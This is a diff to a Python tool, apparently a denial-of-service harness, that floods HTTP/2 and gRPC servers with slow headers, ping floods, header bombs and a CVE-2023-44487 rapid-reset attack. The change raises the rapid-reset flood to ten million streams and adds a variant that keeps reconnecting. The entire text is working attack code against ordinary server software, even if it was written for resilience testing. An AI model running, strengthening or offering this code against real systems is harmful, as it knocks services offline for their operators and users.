@@ -51,10 +51,10 @@ class Target:
             yield line
 
     @contextmanager
-    def http2(self) -> Iterator[RawConnection]:
+    def http2(self, *, timeout_s: float = 10.0) -> Iterator[RawConnection]:
         """Connect, shake hands and say the preface."""
         with self.tls() as line:
-            yield RawConnection(line)
+            yield RawConnection(line, timeout_s=timeout_s)
 
     def channel(self) -> grpc.Channel:
         """Open a line as a well-behaved client would."""
@@ -114,11 +114,19 @@ def pings(target: Target, count: int) -> bool:
 
 
 def rapid_reset(target: Target, count: int) -> bool:
-    """Open calls and take each back at once (CVE-2023-44487)."""
+    """Open calls and take each back at once (CVE-2023-44487), and read what comes back, so as to be heard on."""
+    with target.http2(timeout_s=3) as line:
+        for first in range(1, 2 * count, 200):
+            if not (line.send(raw.reset_streams(first, 100)) and line.attend()):
+                return True
+    return False
+
+
+def rapid_reset_anew(target: Target, count: int) -> bool:
+    """Do so for a moment, and come again on a new connection."""
     with target.http2() as line:
         for first in range(1, 2 * count, 200):
-            if not line.send(raw.reset_streams(first, 100)):
-                return True
+            line.send(raw.reset_streams(first, 100))
     return False
 
 
@@ -199,7 +207,8 @@ FLOODS: dict[str, tuple[Flood, int, bool]] = {
     "half a preface": (half_a_preface, 50, False),
     "slow headers": (slow_headers, 2000, False),
     "pings": (pings, 1000, True),
-    "rapid reset": (rapid_reset, 5000, False),
+    "rapid reset": (rapid_reset, 10_000_000, True),
+    "rapid reset, anew": (rapid_reset_anew, 500, False),
     "header bomb": (header_bomb, 500, True),
     "settings": (settings, 2000, False),
     "noise": (noise, 10, True),
